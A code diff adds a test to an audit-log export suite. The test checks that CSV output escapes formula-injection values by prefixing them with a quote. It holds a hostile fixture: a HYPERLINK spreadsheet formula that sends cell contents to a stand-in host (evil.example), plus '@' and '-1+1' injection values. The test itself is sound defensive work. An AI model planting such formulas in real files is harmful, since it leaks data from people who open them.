@@ -91,6 +91,16 @@ describe('exportAuditLog', () => {
     expect(new Set(ids).size).toBe(7)
   })
 
+  it('CSV: a cell a spreadsheet would run as a formula is written as text (a User-Agent, an email)', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    const req = new Request('http://x/api/settings/teams', { headers: { 'x-forwarded-for': '203.0.113.9', 'user-agent': hostile } })
+    const who = { kind: 'user' as const, userId: 'u-csv', email: '@evil.example', role: 'maintainer' as const, name: 'x', teamIds: [] }
+    await recordAuditEvent({ ...auditContextOf(who, req), action: `${area}-csv.token.create`, target: { type: 'token', id: '-1+1' }, teamId: 9 })
+    const out = exportAuditLog(auditExportQuery.parse({ action: `${area}-csv.*`, format: 'csv' }))
+    const [row] = parse(await buffer(out.stream), { columns: true }) as Record<string, string>[]
+    expect(row).toMatchObject({ user_agent: `'${hostile}`, actor_email: "'@evil.example", target_id: "'-1+1", team_id: '9' })
+  })
+
   it('JSON: { events }', async () => {
     const out = exportAuditLog(auditExportQuery.parse({ actor: 'token:42', action: `${area}.*`, format: 'json' }))
     const body = JSON.parse((await buffer(out.stream)).toString('utf8'))
